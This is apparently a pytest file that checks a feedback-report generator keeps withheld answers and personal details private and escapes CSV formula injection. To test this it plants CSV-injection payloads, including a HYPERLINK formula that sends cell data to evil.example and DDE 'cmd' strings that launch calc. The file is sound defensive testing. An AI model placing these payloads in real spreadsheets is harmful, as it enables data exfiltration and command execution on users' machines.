"""Issue 10's privacy of the outputs, on a real build: what the pack withholds is nowhere in the
published folder, the private files say "never publish", and no CSV cell runs as a formula."""

from __future__ import annotations

import csv

from reportgen.pipeline import build_pack

from .conftest import SAMPLE

WENT_WELL = "What went well that we can build on?"
IMPROVE = "What can we improve on for next time?"
STEP = "One practical step I will take to apply my learning from today in my context is..."


def plant(project, column: str, text: str, *, consented: bool) -> None:
    """Write ``text`` into the first cell of ``column`` of someone who did (or did not) agree to be quoted."""
    path = project.event_dir(SAMPLE) / "feedback.csv"
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    index = rows[0].index(column)
    row = next(r for r in rows[1:] if (r[-1] == "Yes") == consented and not r[index].startswith(("=", "+", "@", "Great", "Ring")))
    row[index] = text
    with open(path, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)


def published_text(folder) -> str:
    """Every text file outside private/ (the PNGs and the PDF aside)."""
    return "\n".join(
        p.read_text(encoding="utf-8")
        for p in sorted(folder.rglob("*"))
        if p.is_file() and "private" not in p.relative_to(folder).parts and p.suffix in {".html", ".json", ".txt", ".svg"}
    )


def test_withheld_answers_and_contact_details_stay_private_and_formulas_stay_text(project):
    plant(project, WENT_WELL, "Great evening, my NHS number is 943 476 5919 and I live at SE1 7EH", consented=True)
    plant(project, WENT_WELL, "Ring me on 07700 900123 or SW1A 1AA, I did not agree to be quoted", consented=False)
    plant(project, STEP, '=HYPERLINK("https://evil.example/?"&A1,"Click me")', consented=False)
    plant(project, STEP, "+cmd|' /C calc'!A0", consented=False)
    plant(project, IMPROVE, "@SUM(1+1)*cmd|' /C calc'!A0", consented=False)
    folder = build_pack(project, SAMPLE, pdf=False).folder

    public = published_text(folder)
    assert "Great evening, my NHS number is [NHS number] and I live at [postcode]" in public
    for secret in ("943 476 5919", "SE1 7EH", "07700 900123", "SW1A 1AA", "did not agree", "HYPERLINK", "calc"):
        assert secret not in public
    assert sorted(p.name for p in folder.iterdir()) == ["build.json", "cards", "charts", "metrics.json", "pack.html", "private", "slides.pptx"]

    private = folder / "private"
    assert "NEVER PUBLISH" in (private / "README.txt").read_text(encoding="utf-8")
    with open(private / "tidy" / "responses.csv", newline="", encoding="utf-8") as handle:
        values = [row["value"] for row in csv.DictReader(handle)]
    # The team keeps every answer as typed, but no cell starts like a formula.
    assert "Ring me on 07700 900123 or SW1A 1AA, I did not agree to be quoted" in values
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"Click me")' in values
    assert "'+cmd|' /C calc'!A0" in values and "'@SUM(1+1)*cmd|' /C calc'!A0" in values
    assert not [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
